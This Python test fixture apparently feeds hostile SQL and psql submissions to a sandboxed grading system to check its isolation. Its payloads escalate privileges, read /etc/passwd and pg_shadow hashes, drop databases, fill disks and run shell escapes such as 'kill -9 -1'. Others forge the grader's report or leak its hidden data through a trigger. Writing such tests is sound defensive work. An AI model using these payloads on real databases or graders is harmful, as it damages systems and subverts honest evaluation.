"""Hostile SQL submissions (C7): statements and psql meta-commands put at the top of a learner's file.

psql runs them in the sandbox as the submission's own database role, so these attack the database
server (privileges, other databases, disk, time), the loader that drives psql, and the host.
`ON_ERROR_STOP` is turned off first, so every line of an attack is tried.
"""

CONTINUE = "\\set ON_ERROR_STOP 0\n"

SQL_ATTACKS = {
    "sql-sleep-forever": {"sql/schema.sql": "SET statement_timeout = 0;\nSELECT pg_sleep(3600);\n"},
    "sql-escalate": {"sql/schema.sql": CONTINUE + (
        "ALTER ROLE CURRENT_USER SUPERUSER;\nALTER ROLE CURRENT_USER CREATEROLE CREATEDB BYPASSRLS;\n"
        "GRANT pg_read_server_files, pg_write_server_files, pg_execute_server_program TO CURRENT_USER;\n"
        "CREATE EXTENSION IF NOT EXISTS plpython3u;\nCREATE EXTENSION IF NOT EXISTS dblink;\n"
        "COPY (SELECT 1) TO PROGRAM 'touch /tmp/cda-sql-pwned';\n"
        "SELECT pg_read_file('/etc/passwd');\nSELECT lo_import('/etc/passwd');\n"
        "ALTER SYSTEM SET statement_timeout = 0;\nSET session_replication_role = replica;\n"
        "SET ROLE postgres;\nSET SESSION AUTHORIZATION postgres;\n"
    )},
    "sql-harm-others": {"sql/schema.sql": CONTINUE + (
        "DROP DATABASE postgres;\nDROP DATABASE template1;\nALTER DATABASE template1 OWNER TO CURRENT_USER;\n"
        "CREATE DATABASE cda_attack;\nCREATE ROLE cda_attack LOGIN SUPERUSER;\n"
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();\n"
        "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid();\n"
        "SELECT datname FROM pg_database;\nSELECT usename, passwd FROM pg_shadow;\n"
        "ALTER DATABASE CURRENT CONNECTION LIMIT -1;\n"
        "ALTER ROLE CURRENT_USER SET statement_timeout = 0;\n"
    )},
    "sql-fill-disk": {"sql/schema.sql": (
        "SET statement_timeout = 0;\nCREATE TABLE remplissage AS\n"
        "SELECT g AS n, repeat(md5(g::text), 32) AS bourrage FROM generate_series(1, 5000000) AS g;\n"
    )},
    "sql-temp-files": {"sql/schema.sql": (
        "SET statement_timeout = 0;\nSET work_mem = '64kB';\n"
        "SELECT count(*) FROM (SELECT repeat(md5(g::text), 8) AS s FROM generate_series(1, 20000000) AS g "
        "ORDER BY 1) AS t;\n"
    )},
    "sql-shell-escape": {"sql/schema.sql": CONTINUE + (
        "\\! cat /cda/runner/*.py > /workspace/stolen.txt\n"
        "\\! ls -la / /cda /out /proc/1/ > /workspace/listing.txt 2>&1\n"
        "\\! sh -c 'trap \"\" HUP TERM INT; while :; do sleep 1; done' &\n"
        "\\! touch /etc/cda-pwned /root/pwned /cda/pwned\n"
        "\\! cat /proc/$PPID/environ /proc/$PPID/cmdline\n"
    )},
    "sql-forge-report": {"sql/schema.sql": CONTINUE + (
        "\\o /out/load.json\n"
        "SELECT '{\"report\": \"{}\", \"mac\": \"0000\"}';\n"
        "\\o\n"
        "\\! printf '{\"report\": \"{\\\\\"a:sql/schema.sql\\\\\": {\\\\\"status\\\\\": \\\\\"ok\\\\\"}}\", \"mac\": \"00\"}' > /out/load.json\n"
        "\\! kill -9 $(ps -o ppid= -p $PPID)\n"
    )},
    "sql-kill-everything": {"sql/schema.sql": "\\! kill -9 -1\n"},
    "sql-binary-and-garbage": {"sql/schema.sql": b"\x00\x01\x02 \\\\ \\unknown\n\xff\xfe SELECT (((;\n"},
}

# Put at the END of schema.sql (after the tables exist): a trigger on every table that lets the
# learner's own loading through, but fails every insert of the grader (reference data, constraint
# probes) with the row in the error message, to smuggle the grader's hidden data into the feedback.
APPEND = "-- cda-attack: append\n"
SQL_ATTACKS["sql-trigger-leak"] = {"sql/schema.sql": APPEND + r"""
CREATE FUNCTION fuite() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  IF current_setting('application_name') <> 'cda-load' THEN
    RAISE EXCEPTION 'FUITE %', row_to_json(NEW)::text;
  END IF;
  RETURN NEW;
END $$;
DO $$
DECLARE t text;
BEGIN
  FOR t IN SELECT tablename FROM pg_tables WHERE schemaname = 'public' LOOP
    EXECUTE format('CREATE TRIGGER fuite BEFORE INSERT OR UPDATE ON %I FOR EACH ROW EXECUTE FUNCTION fuite()', t);
  END LOOP;
END $$;
"""}
